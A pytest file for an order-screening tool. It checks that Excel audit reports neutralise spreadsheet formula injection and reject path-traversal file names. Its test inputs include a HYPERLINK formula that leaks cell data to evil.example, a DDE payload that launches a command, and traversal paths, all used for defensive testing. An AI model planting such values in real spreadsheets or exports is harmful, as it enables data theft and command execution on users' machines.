"""Text from an order file can neither steer where the report is written nor run in Excel."""

from __future__ import annotations

import os
from pathlib import Path

import openpyxl
import pytest

from screener.cli import main as cli_main
from screener.core.record import runs
from screener.core.report.audit_report import write_report
from screener.core.screening.run import run_screening, screen_file
from tests.reliability.harness import seeded_store

INJECTIONS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
PATHS = ["../../evil.xlsx", "/tmp/evil-absolute.xlsx", "..\\..\\evil.xlsx", "~/evil.xlsx"]


def _orders(folder: Path, name: str) -> Path:
    rows = ["Order No;Line;Customer;Ship-to Country;HS Code;Description"]
    texts = INJECTIONS + PATHS
    for n, text in enumerate(texts, start=1):
        quoted = '"' + text.replace('"', '""') + '"'
        rows.append(f"{quoted};{n};{quoted};JP;8542.31;{quoted}")
    path = folder / name
    path.write_text("\n".join(rows) + "\n", encoding="utf-8")
    return path


def _listing(root: Path) -> set[Path]:
    return {p for p in root.rglob("*") if "home" not in p.relative_to(root).parts}


def _assert_inert(report: Path) -> None:
    wb = openpyxl.load_workbook(report)  # not read-only: data_type and quotePrefix are real
    seen: set[str] = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    seen.add(cell.value)
                    if cell.value.startswith(("=", "+", "-", "@", "\t", "\r")):
                        assert cell.data_type == "s", (ws.title, cell.coordinate)
                        assert cell.quotePrefix, (ws.title, cell.coordinate, cell.value)
    for text in INJECTIONS + PATHS:  # every value shown exactly as the file held it
        assert text in seen, text


@pytest.fixture
def root(tmp_path: Path) -> Path:
    (tmp_path / "in" / "sub").mkdir(parents=True)
    (tmp_path / "out").mkdir()
    (tmp_path / "home").mkdir()
    return tmp_path


def test_write_report_writes_only_the_chosen_file(root: Path) -> None:
    orders = _orders(root / "in" / "sub", "..evil..csv")
    store = seeded_store(root / "home")
    summary = run_screening(screen_file(store, orders))
    # A run whose recorded file name is itself a path (as an old or forged database may hold).
    forged = runs.start_run(store, runs.RunInfo("../../evil.xlsx", "0" * 64, "", {}, "p", "m", ()))
    runs.finish_run(store, forged, status="completed", lines=0)
    before = _listing(root)
    cwd_before = set(Path.cwd().iterdir())
    out = root / "out" / "report.xlsx"
    assert write_report(store, summary.run_id, out) == out
    write_report(store, forged, root / "out" / "forged.xlsx")
    store.close()
    assert _listing(root) - before == {out, root / "out" / "forged.xlsx"}
    assert set(Path.cwd().iterdir()) == cwd_before
    assert not Path("/tmp/evil-absolute.xlsx").exists()
    assert sorted(os.listdir(root / "out")) == ["forged.xlsx", "report.xlsx"]
    _assert_inert(out)


def test_cli_screen_and_report_write_only_the_chosen_file(root: Path) -> None:
    orders = _orders(root / "in" / "sub", "orders.csv")
    home = root / "home"
    seeded_store(home).close()
    before = _listing(root)
    out = root / "out" / "cli.xlsx"
    code = cli_main(
        ["--home", str(home), "screen", "--allow-stale", str(orders), "--report", str(out)]
    )
    assert code == 0
    assert _listing(root) - before == {out}
    again = root / "out" / "again.xlsx"
    assert cli_main(["--home", str(home), "report", "1", str(again)]) == 0
    assert _listing(root) - before == {out, again}
    assert not Path("/tmp/evil-absolute.xlsx").exists()
    _assert_inert(out)
